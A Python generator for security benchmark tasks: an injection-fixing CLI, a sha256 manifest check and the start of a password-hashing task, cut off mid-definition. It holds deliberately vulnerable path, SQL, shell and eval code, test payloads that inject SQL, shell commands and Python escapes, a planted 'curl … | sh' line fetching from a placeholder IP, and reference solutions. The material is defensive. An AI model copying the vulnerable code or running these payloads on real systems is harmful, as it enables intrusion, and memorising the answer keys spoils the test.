"""Generated task families of the security category (see :mod:`.base` for what a family is)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import random

from .base import Family, Instance
from .support import h4_inject, h4_pw, source

FAMILIES: list[Family] = []

# ------------------------------------------------------------------ inject-fix
# A small back-office CLI with one to three subcommands that pass user input to a path, an SQL
# string, a shell or eval. The tests attack each with hidden payloads on hidden fixtures and
# check that legitimate (awkward) input still gives the right answer.

_HEAD = '''#!/usr/bin/env python3
"""__TOOL__: the back office's helper.

Usage: python3 __PATH__ [--root DIR] [--db FILE] SUBCOMMAND ...
"""
import argparse
import json
import os
import sqlite3
import subprocess
import sys

ROOT = "/app/__TOOL__/files"
DB = "/app/__TOOL__/shop.db"
CONSTS = __CONSTS__


def refuse(why):
    print(f"refused: {why}", file=sys.stderr)
    sys.exit(2)
'''

_CMDS = {  # kind: (vulnerable code, fixed code, argparse lines)
    "path": ('''

def cmd_show(args):
    """Print the file NAME under the root directory."""
    with open(os.path.join(args.root, args.name)) as f:
        sys.stdout.write(f.read())
''', '''

def cmd_show(args):
    """Print the file NAME under the root directory."""
    root = os.path.realpath(args.root)
    real = os.path.realpath(os.path.join(root, args.name))
    if os.path.isabs(args.name) or not real.startswith(root + os.sep):
        refuse("outside the root")
    with open(real) as f:
        sys.stdout.write(f.read())
''', '''    s = sub.add_parser("show"); s.add_argument("name"); s.set_defaults(func=cmd_show)
'''),
    "sql": ('''

def cmd_find(args):
    """Print the customers named NAME as a JSON list of [id, name, city, balance]."""
    con = sqlite3.connect(args.db)
    rows = con.execute(f"SELECT id, name, city, balance FROM customers WHERE name = '{args.name}' "
                       "ORDER BY id").fetchall()
    print(json.dumps([list(r) for r in rows]))


def cmd_top(args):
    """Print the first N customers by the column SORT (descending, ties by id)."""
    con = sqlite3.connect(args.db)
    rows = con.execute(f"SELECT id, name, city, balance FROM customers ORDER BY {args.sort} DESC, id "
                       f"LIMIT {args.n}").fetchall()
    print(json.dumps([list(r) for r in rows]))
''', '''

def cmd_find(args):
    """Print the customers named NAME as a JSON list of [id, name, city, balance]."""
    con = sqlite3.connect(args.db)
    rows = con.execute("SELECT id, name, city, balance FROM customers WHERE name = ? ORDER BY id",
                       (args.name,)).fetchall()
    print(json.dumps([list(r) for r in rows]))


def cmd_top(args):
    """Print the first N customers by the column SORT (descending, ties by id)."""
    if args.sort not in ("id", "name", "city", "balance"):
        refuse("unknown column")
    con = sqlite3.connect(args.db)
    rows = con.execute(f"SELECT id, name, city, balance FROM customers ORDER BY {args.sort} DESC, id "
                       "LIMIT ?", (args.n,)).fetchall()
    print(json.dumps([list(r) for r in rows]))
''', '''    s = sub.add_parser("find"); s.add_argument("name"); s.set_defaults(func=cmd_find)
    s = sub.add_parser("top"); s.add_argument("n", type=int); s.add_argument("--sort", default="balance")
    s.set_defaults(func=cmd_top)
'''),
    "shell": ('''

def cmd_count(args):
    """Print how many lines of FILE contain PATTERN (a fixed string)."""
    os.system(f"grep -c -F '{args.pattern}' '{args.file}'")
''', '''

def cmd_count(args):
    """Print how many lines of FILE contain PATTERN (a fixed string)."""
    out = subprocess.run(["grep", "-c", "-F", "-e", args.pattern, "--", args.file],
                         capture_output=True, text=True)
    if out.returncode > 1:
        sys.exit(out.returncode)
    sys.stdout.write(out.stdout)
''', '''    s = sub.add_parser("count"); s.add_argument("pattern"); s.add_argument("file")
    s.set_defaults(func=cmd_count)
'''),
    "eval": ('''

def cmd_calc(args):
    """Evaluate an arithmetic expression over numbers and the names in CONSTS."""
    print(eval(args.expr, {"__builtins__": {}}, dict(CONSTS)))
''', '''

import ast
BIN = {ast.Add: lambda a, b: a + b, ast.Sub: lambda a, b: a - b, ast.Mult: lambda a, b: a * b,
       ast.Div: lambda a, b: a / b, ast.FloorDiv: lambda a, b: a // b, ast.Mod: lambda a, b: a % b,
       ast.Pow: lambda a, b: a ** b}


def ev(node):
    if isinstance(node, ast.Expression):
        return ev(node.body)
    if isinstance(node, ast.Constant) and type(node.value) in (int, float):
        return node.value
    if isinstance(node, ast.Name) and node.id in CONSTS:
        return CONSTS[node.id]
    if isinstance(node, ast.UnaryOp) and isinstance(node.op, (ast.USub, ast.UAdd)):
        v = ev(node.operand)
        return -v if isinstance(node.op, ast.USub) else v
    if isinstance(node, ast.BinOp) and type(node.op) in BIN:
        a, b = ev(node.left), ev(node.right)
        if isinstance(node.op, ast.Pow) and abs(b) > 64:
            refuse("exponent too large")
        if isinstance(node.op, (ast.Div, ast.FloorDiv, ast.Mod)) and b == 0:
            refuse("division by zero")
        return BIN[type(node.op)](a, b)
    refuse("not arithmetic")


def cmd_calc(args):
    """Evaluate an arithmetic expression over numbers and the names in CONSTS."""
    try:
        tree = ast.parse(args.expr, mode="eval")
    except SyntaxError:
        refuse("syntax")
    print(ev(tree))
''', '''    s = sub.add_parser("calc"); s.add_argument("expr"); s.set_defaults(func=cmd_calc)
'''),
}

_MAIN = '''

def main():
    p = argparse.ArgumentParser(prog="__TOOL__")
    p.add_argument("--root", default=ROOT)
    p.add_argument("--db", default=DB)
    sub = p.add_subparsers(dest="cmd", required=True)
__PARSERS__    args = p.parse_args()
    args.func(args)


if __name__ == "__main__":
    main()
'''

_SPEC = {
    "path": ("`show NAME` prints the file `NAME` (a path relative to the root directory, `--root`). "
             "A NAME that is absolute or whose file, once `..` and symbolic links are resolved, "
             "lies outside the root must be refused. File names may legitimately contain dots "
             "(`notes..old.txt` is a file in the root)."),
    "sql": ("`find NAME` prints the customers whose name is exactly NAME (any text, quotes "
            "included, is a name to look for; no match prints `[]`). `top N [--sort COL]` prints "
            "the first N customers ordered by COL descending, ties by id ascending; COL must be "
            "one of `id`, `name`, `city`, `balance`, anything else is refused."),
    "shell": ("`count [--] PATTERN FILE` prints the number of lines of FILE that contain PATTERN "
              "as a fixed string (like `grep -c -F`). PATTERN and FILE are data, whatever "
              "characters they hold (quotes, `;`, `$( )`, spaces, a leading `-`); no shell may "
              "interpret them."),
    "eval": ("`calc EXPR` prints the value of an arithmetic expression (Python's `print` of the "
             "number): int and float literals, the names in `CONSTS`, `+ - * / // % **`, unary "
             "`-`/`+` and parentheses, with Python's semantics. Anything else (other names, "
             "attributes, calls, strings, subscripts, ...) is refused, and so are a division or "
             "modulo by zero and a power whose exponent's absolute value exceeds 64."),
}

_CMD_OF = {"path": "show", "sql": "find/top", "shell": "count", "eval": "calc"}

_INJECT_TESTS = '''"""Attacks the tool's subcommands with hidden payloads on hidden fixtures, and checks that
legitimate input still gives the right answer."""

import json
import os
import csv
import hashlib
import io
import json
import random
import subprocess
import tempfile
from pathlib import Path

import pytest

from h4_inject import Refused, calc_ref, count_ref, find_ref, make_db, make_expr, make_rows, top_ref

PROG = __PROG__
KINDS = __KINDS__
TRAP = __TRAP__
CONSTS = __CONSTS__


def run(*args, cwd="/tmp"):
    r = subprocess.run(["python3", PROG, *args], capture_output=True, text=True, timeout=60, cwd=cwd)
    return r.returncode, r.stdout, r.stderr


def refused(*args, cwd="/tmp"):
    code, out, err = run(*args, cwd=cwd)
    assert code == 2 and out == "", f"{args!r} not refused: exit {code}, stdout {out[:200]!r}"
    assert err.startswith("refused"), f"{args!r}: stderr should start with 'refused': {err[:200]!r}"


def ok(want, *args, cwd="/tmp"):
    code, out, err = run(*args, cwd=cwd)
    assert code == 0, f"{args!r}: exit {code}: {err[-400:]}"
    assert out.strip() == want, f"{args!r}: printed {out[:300]!r}, expected {want[:300]!r}"


def tree():
    base = Path(tempfile.mkdtemp())
    root = base / "files"
    (root / "2026" / "q1").mkdir(parents=True)
    rng = random.Random(11)
    files = {"readme.txt": "", "2026/q1/plan.txt": "", "2026/summary.md": "", "notes..old.txt": ""}
    for rel in files:
        files[rel] = "".join(f"line {rng.randint(0, 10**6)}\\n" for _ in range(rng.randint(1, 5)))
        (root / rel).write_text(files[rel])
    (base / "private.txt").write_text("private-" + str(rng.randint(10**8, 10**9)) + "\\n")
    return base, root, files


def db():
    d = Path(tempfile.mkdtemp())
    rows = make_rows(random.Random(23), 40)
    make_db(str(d / "shop.db"), rows)
    return str(d / "shop.db"), rows


def need(kind):
    if kind not in KINDS:
        pytest.skip("not part of this instance")


@pytest.mark.weight(2)
@pytest.mark.parametrize("kind", ["path"])
def test_path_traversal_refused(kind):
    need(kind)
    base, root, files = tree()
    ok(files["2026/q1/plan.txt"].strip(), "--root", str(root), "show", "2026/q1/plan.txt")
    for name in ["../private.txt", "2026/../../private.txt", str(base / "private.txt"),
                 "./../files/../private.txt", "2026/q1/../../../private.txt"]:
        refused("--root", str(root), "show", name)


@pytest.mark.weight(2)
@pytest.mark.parametrize("kind", ["sql"])
def test_sql_payloads_are_data(kind):
    need(kind)
    path, rows = db()
    for name in ["' OR '1'='1", "x' UNION SELECT 1, note, 3, 4 FROM vault --", "' OR 1=1 --"]:
        ok("[]", "--db", path, "find", name)
    ok(find_ref(rows, rows[3][1]), "--db", path, "find", rows[3][1])


@pytest.mark.weight(1)
@pytest.mark.parametrize("kind", ["sql"])
def test_sql_names_with_quotes(kind):
    need(kind)
    path, rows = db()
    names = sorted({r[1] for r in rows if "'" in r[1]})[:4] + ["Nobody O'Hara"]
    for name in names:
        ok(find_ref(rows, name), "--db", path, "find", name)
    ok("[]", "--db", path, "find", "Ada' --")


@pytest.mark.weight(2)
@pytest.mark.parametrize("kind", ["shell"])
def test_shell_payloads_run_nothing(kind):
    need(kind)
    d = Path(tempfile.mkdtemp())
    marker = d / "pwned"
    text = "alpha beta\\nit's here\\nbeta; gamma\\nnothing\\n"
    (d / "data.txt").write_text(text)
    for pat in [f"x' data.txt; touch {marker}; echo '", f"$(touch {marker})", f"`touch {marker}`",
                f"'; touch {marker} #"]:
        ok(count_ref(text, pat), "count", "--", pat, "data.txt", cwd=str(d))
        assert not marker.exists(), f"the pattern {pat!r} ran a command"
    ok(count_ref(text, "beta"), "count", "beta", "data.txt", cwd=str(d))


@pytest.mark.weight(1)
@pytest.mark.parametrize("kind", ["shell"])
def test_shell_awkward_names(kind):
    need(kind)
    d = Path(tempfile.mkdtemp())
    marker = d / "pwned"
    name = "it's $(touch pwned) `touch pwned` notes.txt"
    text = "don't panic\\nplain\\ndon't stop\\n"
    (d / name).write_text(text)
    ok(count_ref(text, "don't"), "count", "don't", name, cwd=str(d))
    assert not marker.exists(), "the file name ran a command"


@pytest.mark.weight(2)
@pytest.mark.parametrize("kind", ["eval"])
def test_eval_code_refused(kind):
    need(kind)
    d = Path(tempfile.mkdtemp())
    marker = d / "pwned"
    ok(calc_ref("(1 + 2) * 7", CONSTS), "calc", "(1 + 2) * 7")
    for expr in [f"__import__('os').system('touch {marker}')",
                 "().__class__.__bases__[0].__subclasses__()", "open('/etc/hostname').read()",
                 "'ab' * 3", "[1, 2]", "(lambda: 1)()", "True + 1"]:
        refused("calc", expr)
    assert not marker.exists()


@pytest.mark.weight(1)
@pytest.mark.parametrize("kind", ["eval"])
def test_eval_arithmetic(kind):
    need(kind)
    rng = random.Random(5)
    for _ in range(12):
        expr = make_expr(rng, CONSTS)
        ok(calc_ref(expr, CONSTS), "calc", expr)
    refused("calc", "__name__")


@pytest.mark.weight(1)
@pytest.mark.parametrize("kind", KINDS)
def test_more_legit_input(kind):
    rng = random.Random(99)
    if kind == "path":
        base, root, files = tree()
        for rel in ["readme.txt", "2026/summary.md", "2026/q1/plan.txt", "./2026/q1/../summary.md"]:
            want = files[os.path.normpath(rel)].strip()
            ok(want, "--root", str(root), "show", rel)
        refused("--root", str(root), "show", "/etc/hostname")
    elif kind == "sql":
        path, rows = db()
        for r in rng.sample(rows, 4):
            ok(find_ref(rows, r[1]), "--db", path, "find", r[1])
        for n in (1, 7):
            ok(top_ref(rows, n, "balance"), "--db", path, "top", str(n))
        ok("[]", "--db", path, "find", "' OR name LIKE '%")
    elif kind == "shell":
        d = Path(tempfile.mkdtemp())
        words = ["red", "green", "blue", "a;b", "x|y", "q'q", "$HOME", "*"]
        text = "".join(" ".join(rng.sample(words, 3)) + "\\n" for _ in range(30))
        (d / "mix.txt").write_text(text)
        for pat in words:
            ok(count_ref(text, pat), "count", "--", pat, "mix.txt", cwd=str(d))
    else:
        for name in sorted(CONSTS):
            expr = f"{name} * 3 - ({name} // 2)"
            ok(calc_ref(expr, CONSTS), "calc", expr)
        refused("calc", f"{sorted(CONSTS)[0]}.__class__")


@pytest.mark.weight(1)
@pytest.mark.parametrize("kind", KINDS)
def test_edge_cases(kind):
    if not TRAP:
        pytest.skip("no edge case in this instance")
    if kind == "path":
        base, root, files = tree()
        os.symlink(str(base / "private.txt"), str(root / "2026" / "latest.txt"))
        refused("--root", str(root), "show", "2026/latest.txt")
        ok(files["notes..old.txt"].strip(), "--root", str(root), "show", "notes..old.txt")
    elif kind == "sql":
        path, rows = db()
        for col in ["balance", "name", "city"]:
            ok(top_ref(rows, 5, col), "--db", path, "top", "5", "--sort", col)
        for col in ["(SELECT note FROM vault)", "balance; --", "balance DESC, (SELECT 1)"]:
            refused("--db", path, "top", "5", "--sort", col)
    elif kind == "shell":
        d = Path(tempfile.mkdtemp())
        text = "-v flag\\nplain\\n--help me\\n-v again\\n"
        (d / "-opts.txt").write_text(text)
        ok(count_ref(text, "-v"), "count", "--", "-v", "-opts.txt", cwd=str(d))
        ok(count_ref(text, "--help"), "count", "--", "--help", "-opts.txt", cwd=str(d))
    else:
        refused("calc", "2 ** 1000")
        refused("calc", "7 // (3 - 3)")
        ok(calc_ref("2 ** -3", CONSTS), "calc", "2 ** -3")
'''


def _inject_fix(rng: random.Random, index: int) -> Instance:
    kinds = sorted(rng.sample(sorted(_CMDS), rng.choices([1, 2, 3], [25, 30, 45])[0]))
    trap = rng.random() < 0.65
    tool = rng.choice(["deskctl", "opsdesk", "backoffice", "clerk", "shopadm", "ledgerctl"])
    prog = f"/app/{tool}/{tool}.py"
    consts = {name: rng.choice([rng.randint(2, 30), round(rng.uniform(0.5, 20), 2)])
              for name in rng.sample(["rate", "fee", "days", "tax", "qty", "base", "cap"], 3)}

    def program(fixed: bool) -> str:
        head = _HEAD.replace("__TOOL__", tool).replace("__PATH__", prog).replace("__CONSTS__", repr(consts))
        body = "".join(_CMDS[k][1 if fixed else 0] for k in kinds)
        parsers = "".join(_CMDS[k][2] for k in kinds)
        return head + body + _MAIN.replace("__TOOL__", tool).replace("__PARSERS__", parsers)

    files = {f"{tool}/{tool}.py": program(False)}
    if "path" in kinds:
        files[f"{tool}/files/readme.txt"] = "Files the back office may show.\n"
        files[f"{tool}/files/2026/plan.txt"] = "Q1: tidy the archive\nQ2: new labels\n"
    if "shell" in kinds:
        files[f"{tool}/files/orders.txt"] = "".join(
            f"order {rng.randint(100, 999)} {rng.choice(['open', 'paid', 'void'])}\n" for _ in range(12))
    if "sql" in kinds:
        files[f"{tool}/make_db.py"] = (
            "import random, sys\nsys.path.insert(0, '/app/" + tool + "')\n"
            "from fixtures import make_db, make_rows\n"
            f"make_db('/app/{tool}/shop.db', make_rows(random.Random({rng.randint(1, 999)}), 25))\n")
        text = source(h4_inject)
        files[f"{tool}/fixtures.py"] = text[:text.index("def find_ref(")]
    specs = "\n".join(f"- {_SPEC[k]}" for k in kinds)
    names = ", ".join(f"`{_CMD_OF[k]}`" for k in kinds)
    db_note = (f" (`python3 /app/{tool}/make_db.py` creates its sample database `/app/{tool}/shop.db`)"
               if "sql" in kinds else "")
    instruction = f"""\
`{prog}` is a small command-line tool the back office runs with input typed by customers and
staff{db_note}. A review found that its subcommands {names} pass that input unchecked into places
where it is interpreted (file paths, SQL, a shell, Python's `eval`), so crafted input can read
files it should not, dump or change the database, or run commands.

Fix `{prog}` in place. Keep its command line, its global options `--root DIR` and `--db FILE`,
and its output formats. What each subcommand must do:

{specs}

Refused input: exit status 2, nothing on standard output, and a message starting with `refused`
on standard error. Nothing the input holds may ever be executed. Legitimate input must keep
working exactly as before, however odd its characters. The tool will be tested on other files,
databases and input than the samples here. Only the Python standard library is available.
"""
    fixed = program(True)
    solution = f"cat > {prog} <<'PY_EOF'\n{fixed}PY_EOF\n"
    tests = (_INJECT_TESTS.replace("__PROG__", repr(prog)).replace("__KINDS__", repr(kinds))
             .replace("__TRAP__", repr(trap)).replace("__CONSTS__", repr(consts)))
    knowledge = 1 if len(kinds) == 1 else 2
    traps = int(trap) + int(len(kinds) == 3)
    total = 1 + knowledge + traps
    difficulty = "easy" if total <= 2 else "medium" if total <= 4 else "hard"
    return Instance(
        instruction=instruction, tests=tests, solution=solution, difficulty=difficulty,
        variant="+".join(kinds) + ("/edge" if trap else ""), files=files,
        test_files={"h4_inject.py": source(h4_inject)}, tags=("injection", *kinds), oracle_turns=1,
    )


FAMILIES.append(Family("inject-fix", "security", "test",
                       "close path-traversal, SQL, shell and eval injection holes in a small CLI; "
                       "hidden payloads and legitimate awkward input on hidden fixtures", _inject_fix))

# ------------------------------------------------------------------ manifest-verify
# A release tree and its sha256 manifest (one of four formats); some files were modified, some are
# missing, some were added. Modified files go to quarantine, or are restored from a backup when the
# backup's copy matches the manifest. The tests hold the expected hashes.

_MV_FORMATS = {
    "gnu": "the output format of `sha256sum`: `HASH  PATH` (two spaces; a `*` before PATH marks "
           "binary mode and is not part of the path)",
    "bsd": "the BSD tag format of `sha256sum --tag`: `SHA256 (PATH) = HASH`",
    "json": 'a JSON object `{"algorithm": "sha256", "files": [{"path": ..., "size": ..., "sha256": ...}]}`',
    "csv": "CSV with the header `path,bytes,sha256` (paths with commas or spaces are quoted)",
}

_MV_TESTS = '''"""Checks the tree, the quarantine and the report against the hashes the tests keep."""

import hashlib
import json
from pathlib import Path

import pytest

EXP = json.loads(Path(__file__).with_name("expected.json").read_text())
TREE = Path(EXP["tree"])
QUAR = Path("/app/quarantine")


def sha(p):
    return hashlib.sha256(p.read_bytes()).hexdigest()


@pytest.mark.weight(2)
def test_report():
    got = json.loads(Path("/app/integrity_report.json").read_text())
    for key in ("modified", "missing", "unexpected", "restored"):
        assert sorted(got.get(key, [])) == EXP["report"][key], f"wrong list {key!r}"


@pytest.mark.weight(2)
def test_quarantine():
    for rel, h in EXP["quarantined"].items():
        assert (QUAR / rel).is_file() and sha(QUAR / rel) == h, f"{rel} not quarantined as it was"
        assert not (TREE / rel).exists(), f"{rel} is still in the tree"
    files = sorted(str(p.relative_to(QUAR)) for p in QUAR.rglob("*") if p.is_file())
    assert files == sorted(EXP["quarantined"]), "the quarantine holds other files"


@pytest.mark.weight(1)
def test_tree():
    files = sorted(str(p.relative_to(TREE)) for p in TREE.rglob("*") if p.is_file())
    assert files == sorted(EXP["tree_files"]), "the tree does not hold the expected files"
    for rel, h in EXP["tree_files"].items():
        assert sha(TREE / rel) == h, f"{rel} does not have the expected content"
'''


def _manifest_verify(rng: random.Random, index: int) -> Instance:
    fmt = rng.choice(sorted(_MV_FORMATS))
    restore = rng.random() < 0.45
    odd = rng.random() < 0.5
    tree = rng.choice(["release", "site", "firmware", "bundle"])
    dirs = ["", "bin/", "lib/", "share/doc/", "conf/"]
    stems = ["core", "util", "index", "readme", "boot", "main", "style", "logo", "init", "data"]
    if odd:
        stems += ["release notes", "a,b", "über"]
    names = set()
    while len(names) < rng.randint(14, 22):
        stem = rng.choice(stems)
        names.add(f"{rng.choice(dirs)}{stem}{rng.randint(1, 99)}.{rng.choice(['txt', 'bin', 'cfg', 'js'])}")
    names = sorted(names)
    orig = {}
    for n in names:
        if n.endswith(".bin"):
            orig[n] = bytes(rng.randint(0, 255) for _ in range(rng.randint(40, 300)))
        else:
            orig[n] = "".join(f"{rng.choice(stems)} = {rng.randint(0, 9999)}\n"
                              for _ in range(rng.randint(2, 12))).encode()
    h = {n: hashlib.sha256(b).hexdigest() for n, b in orig.items()}
    picked = rng.sample(names, 7)
    modified, missing = sorted(picked[:4]), sorted(picked[4:6])
    unexpected = sorted({f"{rng.choice(dirs)}extra{rng.randint(1, 9)}.sh" for _ in range(2)})
    cur = {n: b for n, b in orig.items() if n not in missing}
    for n in modified:
        b = bytearray(cur[n])
        b[rng.randrange(len(b))] ^= 1 << rng.randrange(8)  # same size, one bit flipped
        cur[n] = bytes(b)
    for n in unexpected:
        cur[n] = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
    backup, restored = {}, []
    if restore:
        kinds = ["none", "corrupt", "good", rng.choice(["good", "corrupt", "none"])]
        rng.shuffle(kinds)
        for n, kind in zip(modified, kinds):
            if kind != "none":
                backup[n] = orig[n] if kind == "good" else orig[n][:-1] + b"#"
            restored += [n] if kind == "good" else []
    quarantined = {n: hashlib.sha256(cur[n]).hexdigest() for n in modified if n not in restored}
    tree_files = {n: hashlib.sha256(b).hexdigest() for n, b in cur.items() if n not in quarantined}
    tree_files.update({n: h[n] for n in restored})
    rows = [(n, len(orig[n]), h[n]) for n in names]
    rng.shuffle(rows)
    if fmt == "gnu":
        man = "".join(f"{d}  {'*' if n.endswith('.bin') else ''}{n}\n" for n, _, d in rows)
    elif fmt == "bsd":
        man = "".join(f"SHA256 ({n}) = {d}\n" for n, _, d in rows)
    elif fmt == "json":
        man = json.dumps({"algorithm": "sha256", "files": [{"path": n, "size": s, "sha256": d}
                                                              for n, s, d in rows]}, indent=1)
    else:
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(["path", "bytes", "sha256"])
        w.writerows(rows)
        man = buf.getvalue()
    files: dict[str, str | bytes] = {f"{tree}/{n}": b for n, b in cur.items()}
    files[f"MANIFEST.{ 'json' if fmt == 'json' else 'csv' if fmt == 'csv' else 'sha256'}"] = man
    mname = next(k for k in files if k.startswith("MANIFEST"))
    files.update({f"backup/{n}": b for n, b in backup.items()})
    restore_text = (
        "\n\nA modified file that has a copy under `/app/backup/` (same relative path) whose sha256 "
        "matches the manifest is restored instead: put the backup's copy in its place and list it "
        "under `restored`, not under `modified`; a modified file whose backup copy does not match "
        "is quarantined like any other." if restore else "")
    instruction = f"""\
`/app/{tree}/` is a deployed tree and `/app/{mname}` its manifest, in {_MV_FORMATS[fmt]}. Paths in
the manifest are relative to `/app/{tree}/`. Someone has tampered with the tree.

Verify the tree against the manifest:
- a file listed in the manifest whose sha256 differs is *modified*: move it to `/app/quarantine/`,
  keeping its path relative to the tree (`/app/{tree}/lib/x.txt` goes to
  `/app/quarantine/lib/x.txt`), byte for byte;
- a listed file that is absent is *missing*;
- a file in the tree that the manifest does not list is *unexpected*: leave it where it is.{restore_text}

Write `/app/integrity_report.json`: an object with the keys `modified`, `missing`, `unexpected`
and `restored` (always present), each a sorted list of paths relative to the tree. Do not change
any other file of the tree.
"""
    expected = {"tree": f"/app/{tree}", "quarantined": quarantined, "tree_files": tree_files,
                "report": {"modified": sorted(quarantined), "missing": missing,
                           "unexpected": unexpected, "restored": sorted(restored)}}
    solution = f"""cat > /tmp/verify.py <<'PY_EOF'
import csv, hashlib, io, json, os, re, shutil
from pathlib import Path
tree, man = Path("/app/{tree}"), Path("/app/{mname}").read_text(encoding="utf-8")
want = {{}}
if "{fmt}" == "gnu":
    for line in man.splitlines():
        d, rest = line[:64], line[66:]
        want[rest[1:] if rest.startswith("*") else rest] = d
elif "{fmt}" == "bsd":
    for line in man.splitlines():
        m = re.fullmatch(r"SHA256 \\((.*)\\) = ([0-9a-f]{{64}})", line)
        want[m[1]] = m[2]
elif "{fmt}" == "json":
    want = {{f["path"]: f["sha256"] for f in json.loads(man)["files"]}}
else:
    want = {{r["path"]: r["sha256"] for r in csv.DictReader(io.StringIO(man))}}
sha = lambda p: hashlib.sha256(p.read_bytes()).hexdigest()
rep = {{"modified": [], "missing": [], "unexpected": [], "restored": []}}
for p in sorted(tree.rglob("*")):
    rel = str(p.relative_to(tree))
    if p.is_file() and rel not in want:
        rep["unexpected"].append(rel)
for rel, d in sorted(want.items()):
    p = tree / rel
    if not p.is_file():
        rep["missing"].append(rel)
    elif sha(p) != d:
        b = Path("/app/backup") / rel
        if b.is_file() and sha(b) == d:
            shutil.copyfile(b, p)
            rep["restored"].append(rel)
        else:
            q = Path("/app/quarantine") / rel
            q.parent.mkdir(parents=True, exist_ok=True)
            shutil.move(str(p), str(q))
            rep["modified"].append(rel)
Path("/app/integrity_report.json").write_text(json.dumps(rep, indent=2))
PY_EOF
python3 /tmp/verify.py
"""
    steps = 1 + int(restore)
    knowledge = 1 if fmt in ("gnu", "bsd") else 0
    traps = int(odd) + int(restore)
    total = steps + knowledge + traps
    return Instance(
        instruction=instruction, tests=_MV_TESTS, solution=solution,
        difficulty="easy" if total <= 2 else "medium" if total <= 4 else "hard",
        variant=f"{fmt}/{'restore' if restore else 'quarantine'}" + ("/odd-names" if odd else ""),
        files=files, test_files={"expected.json": json.dumps(expected, indent=1)},
        tags=("sha256", "integrity", fmt), oracle_turns=2,
    )


FAMILIES.append(Family("manifest-verify", "security", "train",
                       "verify a tree against a sha256 manifest in one of four formats; quarantine "
                       "modified files or restore them from a checked backup", _manifest_verify))

# ------------------------------------------------------------------ pw-hash
# A service keeps plaintext passwords (colon, CSV or JSON file). Write a hashing/verifying tool for
# one of three salted KDF schemes, convert the file, remove every plaintext copy, and (some
# instances) switch the login script to the hashed file. Tests verify with hidden passwords.

_PW_USERS = {
    "colon": ("users.txt", "lines `USER:PASSWORD` (the password is everything after the first `:` up "
                           "to the end of the line, spaces included)"),
    "csv": ("users.csv", "CSV with the header `username,password,role` (fields may be quoted)"),
    "json": ("users.json", 'a JSON list of objects `{"username": ..., "password": ..., "role": ...}`'),
}
_PW_SCHEME = {
    "pbkdf2-sha256": "PBKDF2-HMAC-SHA256 (`hashlib.pbkdf2_hmac`) with {it} iterations and a 32-byte "
                     "key: `USER:$pbkdf2-sha256${it}$SALT$HASH`",
    "pbkdf2-sha512": "PBKDF2-HMAC-SHA512 (`hashlib.pbkdf2_hmac`) with {it} iterations and a 64-byte "
                     "key: `USER:$pbkdf2-sha512${it}$SALT$HASH`",
    "scrypt": "scrypt (`hashlib.scrypt`) with n=16384, r=8, p=1 and a 32-byte key: "
              "`USER:$scrypt$ln=14,r=8,p=1$SALT$HASH`",
}

_PW_TESTS = '''"""Checks the hashed file with the hidden passwords, and runs pwtool and login on hidden data."""

import csv
import io
import json
import os
import random
import subprocess
import tempfile
from pathlib import Path

import pytest

from h4_pw import check, make_line

E = json.loads(Path(__file__).with_name("expected.json").read_text())
SVC, SCHEME, ENC, IT, FMT = E["svc"], E["scheme"], E["enc"], E["iterations"], E["fmt"]
TOOL = f"{SVC}/pwtool.py"


def render(users):
    if FMT == "colon":
        return "".join(f"{u}:{p}\\n" for u, p, _ in users)
    if FMT == "json":
        return json.dumps([{"username": u, "password": p, "role": r} for u, p, r in users])
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\\n")
    w.writerow(["username", "password", "role"])
    w.writerows(users)
    return buf.getvalue()


def hidden_users(seed, n):
    rng = random.Random(seed)
    odd = [" lead", "trail ", "a:b:c", "caf\\u00e9-\\u00fc", "quote\\"d", "com,ma"] if E["odd"] else [""]
    return [(f"u{seed}{i}", f"{rng.choice(['kite', 'moss', 'zinc'])}{rng.randint(10, 99)}{rng.choice(odd)}{rng.randint(0, 9)}",
             rng.choice(["admin", "staff"])) for i in range(n)]


def check_file(text, users):
    lines = [l for l in text.split("\\n") if l]
    assert [l.split(":", 1)[0] for l in lines] == [u for u, _, _ in users], "users missing, extra or reordered"
    salts = set()
    for line, (u, p, _) in zip(lines, users):
        ok, salt = check(SCHEME, ENC, line, p, IT)
        assert ok, f"the hash of {u} does not match the password"
        assert len(salt) >= 16, f"salt of {u} is shorter than 16 bytes"
        salts.add(salt)
    assert len(salts) == len(lines), "salts repeat"


@pytest.mark.weight(2)
def test_hashed_file():
    check_file(Path(f"{SVC}/users.hashed").read_text(encoding="utf-8"), [tuple(u) for u in E["users"]])


@pytest.mark.weight(1)
def test_no_plaintext_left():
    pws = [p for _, p, _ in E["users"]]
    for root, _, names in os.walk("/app"):
        for n in names:
            data = Path(root, n).read_bytes()
            for p in pws:
                assert p.encode("utf-8") not in data, f"a plaintext password is still in {root}/{n}"


@pytest.mark.weight(2)
def test_verify_hidden():
    users = hidden_users(5, 6)
    rng = random.Random(9)
    d = Path(tempfile.mkdtemp())
    (d / "h").write_text("".join(make_line(SCHEME, ENC, u, p, rng.randbytes(16), IT) + "\\n"
                                 for u, p, _ in users), encoding="utf-8")
    for u, p, _ in users:
        for pw, want in ((p, 0), (p + "x", 1), (p[:-1], 1)):
            r = subprocess.run(["python3", TOOL, "verify", str(d / "h"), u, pw], capture_output=True, timeout=60)
            assert r.returncode == want, f"verify {u} with a {'right' if want == 0 else 'wrong'} password: exit {r.returncode}"
    r = subprocess.run(["python3", TOOL, "verify", str(d / "h"), "nobody", "x"], capture_output=True, timeout=60)
    assert r.returncode == 1, "an unknown user must give exit status 1"


@pytest.mark.weight(1)
def test_hash_hidden():
    users = hidden_users(7, 5)
    d = Path(tempfile.mkdtemp())
    (d / "in").write_text(render(users), encoding="utf-8")
    outs = []
    for k in range(2):
        r = subprocess.run(["python3", TOOL, "hash", str(d / "in"), str(d / f"out{k}")],
                           capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr[-500:]
        outs.append((d / f"out{k}").read_text(encoding="utf-8"))
        check_file(outs[-1], users)
    assert outs[0] != outs[1], "two runs gave the same salts"


@pytest.mark.weight(1)
@pytest.mark.skipif(not E["login"], reason="no login script in this instance")
def test_login():
    assert not Path(f"{SVC}/{E['plain']}").exists(), "the plaintext file is still there"
    for u, p, _ in E["users"][:4]:
        for pw, want in ((p, "ok"), (p + "!", "denied")):
            r = subprocess.run(["python3", f"{SVC}/login.py", u, pw], capture_output=True, text=True, timeout=60)
            assert r.stdout.strip() == want, f"login {u}: {r.stdout.strip()!r}, expected {want!r}"
'''

_LOGIN = {
